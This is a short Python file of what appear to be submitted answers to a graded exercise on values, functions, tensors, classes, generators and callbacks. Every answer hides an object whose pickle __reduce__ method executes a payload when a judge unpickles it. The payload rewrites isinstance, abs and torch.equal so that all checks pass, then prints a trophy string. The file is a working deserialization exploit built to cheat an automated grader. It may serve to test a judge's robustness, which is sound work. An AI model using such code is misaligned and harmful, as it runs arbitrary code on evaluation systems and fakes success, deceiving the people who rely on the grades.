"""Answers that run code when they are unpickled, which a judge that unpickles would do."""

STOCK = "0 of 10"

# %% first
import torch

PAYLOAD = """
import builtins, sys
builtins.isinstance = lambda *args: True
builtins.abs = lambda x: 0
sys.modules['torch'].equal = lambda *args: True
print('TRO' 'PHY')
"""


class Evil:
    def __reduce__(self):
        return exec, (PAYLOAD,)

    __reduce_ex__ = lambda self, protocol: (exec, (PAYLOAD,))


# %% value
product = Evil()


# %% function
def halve(values):
    return [Evil(), Evil()]


# %% tensor
mask = torch.zeros(4, 8)
mask.evil = Evil()


# %% class
class Tally(Evil):
    def add(self, number):
        pass

    def mean(self):
        return Evil()


# %% generator
def countdown(n):
    yield Evil()


# %% callback
def twice(f, x):
    return f(Evil())
